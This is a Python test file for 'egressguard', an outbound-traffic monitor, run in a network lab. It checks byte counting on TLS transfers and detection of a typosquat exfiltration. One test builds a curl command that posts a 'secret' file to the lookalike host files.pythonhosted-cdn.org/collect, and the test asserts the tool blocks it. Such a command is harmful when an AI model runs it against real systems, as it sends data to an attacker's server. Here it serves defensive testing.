"""The kernel-side capture filter, on real TLS transfers in the lab: a download stays in the
kernel, yet the report still counts its bytes, sees the upload and catches an exfiltration."""

from __future__ import annotations

import json
import sys
from pathlib import Path

from tests.lab.conftest import lab_env
from tests.lab.netlab import LOOKALIKE_IP, Lab, sh

EGRESSGUARD = [sys.executable, "-m", "egressguard", "run", "--quiet"]
DOWNLOAD = 20_000_000
UPLOAD = 300_000


def _egressguard(lab: Lab, tmp_path: Path, script: str, *flags: str) -> tuple[int, dict]:
    report = tmp_path / "report.json"
    proc = lab.run(
        [*EGRESSGUARD, "--report", str(report), *flags, "--", "sh", "-c", script],
        env=lab_env(lab),
        cwd=tmp_path,
        timeout=120,
    )
    assert report.exists(), proc.stderr[-2000:]
    return proc.returncode, json.loads(report.read_text())


def _curl(lab: Lab, url: str, *extra: str) -> str:
    return f"curl -sS --fail --cacert {lab.ca_cert} -o /dev/null {' '.join(extra)} {url}"


def _frames(lab: Lab) -> int:
    """Frames in and out of the runner's link so far, as the kernel counts them."""
    link = f"{lab.name}a"
    total = 0
    for counter in ("rx_packets", "tx_packets"):
        path = f"/sys/class/net/{link}/statistics/{counter}"
        total += int(sh("cat", path, netns=lab.runner).stdout)
    return total


def _pypi(report: dict) -> dict:
    rows = [d for d in report["destinations"] if d["host"] == "pypi.org"]
    assert rows, report["destinations"]
    return {
        "bytes_in": sum(r["bytes_in"] for r in rows),
        "bytes_out": sum(r["bytes_out"] for r in rows),
    }


def test_audit_counts_a_download_it_never_reads(lab: Lab, tmp_path: Path) -> None:
    (tmp_path / "body").write_bytes(b"u" * UPLOAD)
    script = " && ".join(
        [
            _curl(lab, f"https://pypi.org/stream/{DOWNLOAD}"),
            _curl(lab, "https://pypi.org/upload", "--data-binary", "@body"),
        ]
    )
    before = _frames(lab)
    status, report = _egressguard(lab, tmp_path, script, "--mode", "audit")
    frames = _frames(lab) - before

    assert status == 0, report["findings"]
    assert [f for f in report["findings"] if f["severity"] in ("high", "critical")] == []
    sent = [r for r in lab.requests() if r["path"] == f"/stream/{DOWNLOAD}"]
    assert sent and sent[0]["sent"] == DOWNLOAD  # the download really happened
    assert lab.uploads(host="pypi.org") == UPLOAD  # and so did the upload
    counted = _pypi(report)
    # TLS adds records, headers and the handshake; the body alone is DOWNLOAD bytes.
    assert DOWNLOAD < counted["bytes_in"] < DOWNLOAD * 1.02
    assert UPLOAD < counted["bytes_out"] < UPLOAD * 1.1
    # Most frames of the transfer never reached Python: bulk data and bare ACKs stay in the
    # kernel. The frames that did include every handshake and the whole upload.
    assert report["stats"]["dropped"] == 0
    assert report["stats"]["packets"] < frames / 3, (report["stats"], frames)


def test_gates_catch_an_exfiltration_during_a_download(lab: Lab, tmp_path: Path) -> None:
    (tmp_path / "secret").write_bytes(b"s" * 262_144)
    download = _curl(lab, f"https://pypi.org/stream/{DOWNLOAD * 5}")
    exfil = _curl(lab, "https://files.pythonhosted-cdn.org/collect", "--data-binary", "@secret")
    script = f"{download} & sleep 0.3; {exfil}; wait"
    status, report = _egressguard(lab, tmp_path, script)

    assert status == 3
    kinds = {f["kind"] for f in report["findings"]}
    assert "typosquat" in kinds, report["findings"]
    assert lab.uploads(server=LOOKALIKE_IP) == 0  # the lookalike received nothing
    assert report["stats"]["dropped"] == 0


def test_gates_count_a_download_through_the_relay(lab: Lab, tmp_path: Path) -> None:
    (tmp_path / "body").write_bytes(b"u" * UPLOAD)
    script = " && ".join(
        [
            _curl(lab, f"https://pypi.org/stream/{DOWNLOAD}"),
            _curl(lab, "https://pypi.org/upload", "--data-binary", "@body"),
        ]
    )
    status, report = _egressguard(lab, tmp_path, script)

    assert status == 0, report["findings"]
    assert lab.uploads(host="pypi.org") == UPLOAD
    counted = _pypi(report)
    assert DOWNLOAD < counted["bytes_in"] < DOWNLOAD * 1.02
    assert UPLOAD < counted["bytes_out"] < UPLOAD * 1.1
